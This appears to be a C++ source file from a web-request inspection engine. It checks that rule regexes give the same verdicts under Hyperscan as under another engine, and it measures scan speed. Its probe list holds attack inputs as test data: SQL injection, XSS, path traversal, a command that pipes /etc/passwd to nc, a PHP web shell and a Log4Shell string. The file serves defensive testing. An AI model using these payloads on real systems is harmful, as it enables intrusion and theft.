// Compares verdicts on values where engines differ, and speed on ordinary ones.
#include "inspect/match/rules/exact_trial.h"

#include <algorithm>
#include <array>
#include <chrono>

#include "inspect/match/rules/exact_set.h"

namespace gabion::inspect::match {

namespace {

using namespace std::string_view_literals;

constexpr std::array kProbes{
    ""sv,
    "\n"sv,
    "a\n"sv,
    "\n\n"sv,
    "\na"sv,
    "a\nb"sv,
    "\v"sv,
    "a\vb"sv,
    " "sv,
    "\r\n"sv,
    "\0"sv,
    "a\0b"sv,
    "\x85"sv,
    "\xa0"sv,
    "a\xa0"
    "b"sv,
    "\xb5\xe5\xc5\xff"sv,
    "k\xc5\xbf\xe2\x84\xaa"sv,
    "\xc3\xa9"sv,
    "0"sv,
    "a"sv,
    "A"sv,
    "_"sv,
    "-"sv,
    "="sv,
    "\\"sv,
    "name=value&page=2"sv,
    "The quick brown fox, it's 42% done.\n"sv,
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36"sv,
    "/products/list.php?id=17&sort=price#top"sv,
    "session=9f2c1d7e4b6a40f8; theme=dark"sv,
    "text/html; charset=utf-8"sv,
    "' or 1=1 -- "sv,
    "1 UNION SELECT user,password FROM users\n"sv,
    "<script>alert(1)</script>"sv,
    "\"><img src=x onerror=alert(1)>\n"sv,
    "../../../etc/passwd\0.html"sv,
    "; cat /etc/passwd | nc 10.0.0.1 80"sv,
    "<?php system($_GET['c']); ?>"sv,
    "${jndi:ldap://x/a}"sv,
    "%0d%0aSet-Cookie: a=b"sv,
    "GET / HTTP/1.1\r\n\r\n"sv};

/// What requests mostly hold: some 80 bytes that no rule should mind.
constexpr std::array kOrdinary{
    "The quick brown fox, page=17&sort=price it is 42% done at shop.example.com/a"sv,
    "c2Vzc2lvbj05ZjJjMWQ3ZTRiNmE0MGY4YTFiMmMzZDRlNWY2MDcxOA_9f2c1d7e-4b6a-40f8-a1b2"sv,
    "{\"orders\": [{\"id\": 4711, \"item\": \"garden hose\", \"price\": 19.95, \"count\": 2}]}"sv};
/// An expression that takes this long is one that Hyperscan must step through byte by byte: in a set with others it
/// costs them all their speed. Those that do not take a tenth of it.
constexpr double kSlowNanosecondsPerByte = 10;

/// The best of some rounds over kOrdinary, so that a busy machine does not make an expression slow.
template <class Scan>
double nanoseconds_per_byte(const Scan& scan) {
  constexpr int kRounds = 7;
  constexpr int kScans = 16;
  std::size_t bytes = 0;
  for (const std::string_view value : kOrdinary) {
    bytes += value.size() * kScans;
  }
  double best = 0;
  for (int round = 0; round < kRounds; ++round) {
    const auto start = std::chrono::steady_clock::now();
    for (int i = 0; i < kScans; ++i) {
      std::for_each(kOrdinary.begin(), kOrdinary.end(), scan);
    }
    const std::chrono::duration<double, std::nano> taken = std::chrono::steady_clock::now() - start;
    const double each = taken.count() / static_cast<double>(bytes);
    best = round == 0 ? each : std::min(best, each);
  }
  return best;
}

bool judges_as(const RuleRegex& regex, const ExactSet& set, std::uint32_t id, Scratch& scratch, HitSet& hits) {
  return std::all_of(kProbes.begin(), kProbes.end(), [&](std::string_view probe) {
    hits.clear();
    set.scan(probe, scratch, hits);
    const RegexVerdict wanted = regex.match(probe, scratch);
    return wanted == RegexVerdict::kUndecided ||
           (!hits.undecided(id) && hits.test(id) == (wanted == RegexVerdict::kMatch));
  });
}

bool is_slow(const RuleRegex& regex, const ExactSet& set, Scratch& scratch, HitSet& hits) {
  const double exact = nanoseconds_per_byte([&](std::string_view value) { set.scan(value, scratch, hits); });
  if (exact < kSlowNanosecondsPerByte) {
    return false;
  }
  return nanoseconds_per_byte([&](std::string_view value) { static_cast<void>(regex.match(value, scratch)); }) < exact;
}

}  // namespace

std::span<const std::string_view> probe_values() noexcept {
  return kProbes;
}

bool suits_hyperscan(const RulePattern& pattern, const RuleRegex& regex, Platform platform) {
  RulePattern alone = pattern;
  alone.id = 0;
  PatternList taken{&alone};
  PatternList refused;
  const auto set = ExactSet::of_regexes(taken, refused, platform);
  Scratch scratch;
  HitSet hits(1);
  return set && set->prepare(scratch) && judges_as(regex, *set, 0, scratch, hits) &&
         !is_slow(regex, *set, scratch, hits);
}

}  // namespace gabion::inspect::match
